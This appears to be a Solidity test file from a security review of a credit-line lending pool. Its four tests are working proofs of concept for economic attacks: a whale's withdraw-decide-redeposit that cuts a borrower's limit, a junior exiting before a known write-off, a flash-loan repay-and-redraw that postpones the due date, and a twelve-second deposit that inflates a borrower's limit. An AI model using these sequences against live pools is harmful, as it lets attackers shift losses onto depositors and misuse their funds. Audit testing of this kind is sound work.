// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity 0.8.37;

import {CreditLine} from "../../contracts/consumers/CreditLine.sol";
import {VM} from "../Vm.sol";
import {FedWorld} from "../support/FedWorld.sol";
import {MockToken} from "../support/MockToken.sol";

/// @notice A test that passes shows an attack that works.
contract ReviewCredit is FedWorld {
    address private constant BORROWER = address(0xb0);
    address private constant JUNIOR = address(0x10);
    address private constant WHALE = address(0x11);

    MockToken private _dollar;
    CreditLine private _pool;

    function setUp() external {
        buildFed();
        _dollar = new MockToken(6);
        _pool = new CreditLine(address(manager), gateway, _dollar, "pool", "POOL");
        _pool.setPolicy(_subject(BORROWER), fedPolicy(1, 1 << 60, false), ports);
        _fund(address(this), 10_000_000e6);
        _fund(JUNIOR, 100_000e6);
        _fund(WHALE, 10_000_000e6);
        _fund(BORROWER, 0);
        _pool.deposit(100_000e6, address(this));
        _pool.depositJunior(50_000e6);
        VM.prank(JUNIOR);
        _pool.depositJunior(50_000e6);
        VM.prank(WHALE);
        _pool.deposit(800_000e6, WHALE);
    }

    function _fund(address who, uint256 amount) private {
        _dollar.give(who, amount);
        VM.prank(who);
        _dollar.approve(address(_pool), type(uint256).max);
    }

    function _subject(address borrower) private pure returns (bytes32) {
        return bytes32(uint256(uint160(borrower)));
    }

    function _decide(uint256 limit_) private {
        warpToNextPeriod(int192(PRICE));
        decide(address(_pool), _subject(BORROWER), ints(int256(limit_ << 20)));
    }

    /// @dev Withdraw, submit the borrower's decision, deposit again: one transaction of a large senior.
    function test_aSeniorCutsABorrowersLimitForADayAtNoCost() external {
        _decide(50_000);
        VM.warp(block.timestamp + 24 hours);
        eq(_pool.limitOf(BORROWER), 50_000e6, "granted");
        warpToNextPeriod(int192(PRICE));
        uint256 shares = _pool.balanceOf(WHALE);
        VM.startPrank(WHALE);
        _pool.redeem(shares, WHALE, WHALE);
        decide(address(_pool), _subject(BORROWER), ints(int256(50_000 << 20)));
        _pool.deposit(800_000e6, WHALE);
        VM.stopPrank();
        eq(_pool.pool(), 1_000_000e6, "the pool is as it was");
        eq(_pool.limitOf(BORROWER), 10_000e6, "the limit is a fifth");
        _decide(50_000);
        eq(_pool.limitOf(BORROWER), 10_000e6, "and for a day nothing helps");
        // Done again within the day, what waits is lowered too, and is not raised again before it counts.
        warpToNextPeriod(int192(PRICE));
        VM.startPrank(WHALE);
        _pool.redeem(_pool.balanceOf(WHALE), WHALE, WHALE);
        decide(address(_pool), _subject(BORROWER), ints(int256(50_000 << 20)));
        _pool.deposit(800_000e6, WHALE);
        VM.stopPrank();
        _decide(50_000);
        VM.warp(block.timestamp + 22 hours);
        eq(_pool.limitOf(BORROWER), 10_000e6, "still");
    }

    /// @dev Who is first leaves the loss to the other, though it is known already.
    function test_aJuniorLeavesBeforeTheWriteOffAndLosesNothing() external {
        _decide(50_000);
        VM.warp(block.timestamp + 24 hours);
        VM.prank(BORROWER);
        _pool.draw(49_000e6);
        VM.warp(block.timestamp + 91 days);
        uint256 shares = _pool.juniorSharesOf(address(this));
        uint256 got = _pool.withdrawJunior(shares);
        _pool.writeOff(BORROWER);
        yes(got >= 50_000e6 - 300e6, "all back but the owed fees");
        yes(_pool.juniorAssets() <= 1_300e6, "the other junior bears all of it");
    }

    /// @dev A flash loan repays and is drawn again: the term begins anew, for half a percent.
    function test_aFlashLoanPutsTheDueDateOff() external {
        _decide(50_000);
        VM.warp(block.timestamp + 24 hours);
        VM.prank(BORROWER);
        _pool.draw(40_000e6);
        VM.warp(block.timestamp + 89 days);
        _decide(50_000);
        _decide(50_000);
        VM.warp(block.timestamp + 24 hours - 1 hours);
        // 40,200 from a flash loan, and 200 of its own.
        _dollar.give(BORROWER, 40_200e6 - _dollar.balanceOf(BORROWER));
        VM.startPrank(BORROWER);
        _pool.repay(BORROWER, type(uint256).max);
        _pool.draw(40_000e6);
        VM.stopPrank();
        (,,,,,, uint40 dueAt,) = _pool.lines(BORROWER);
        yes(dueAt > block.timestamp + 89 days, "for another term");
    }

    /// @dev Held over one block's end at the decision and at the draw: the share of the pool is as large as one likes.
    function test_aDepositOfTwelveSecondsEnlargesLimitAndDraw() external {
        warpToNextPeriod(int192(PRICE));
        VM.prank(WHALE);
        _pool.deposit(1_000_000e6, WHALE);
        VM.warp(block.timestamp + 12);
        decide(address(_pool), _subject(BORROWER), ints(int256(1_000_000 << 20)));
        VM.prank(WHALE);
        _pool.withdraw(1_000_000e6, WHALE, WHALE);
        VM.warp(block.timestamp + 24 hours);
        VM.prank(WHALE);
        _pool.deposit(1_000_000e6, WHALE);
        VM.warp(block.timestamp + 12);
        VM.prank(BORROWER);
        _pool.draw(99_500e6 - 1);
        VM.prank(WHALE);
        _pool.withdraw(1_000_000e6, WHALE, WHALE);
        yes(_pool.exposure() * 100 > _pool.pool() * 9, "nearly a tenth of the pool, all of the juniors' money");
    }
}
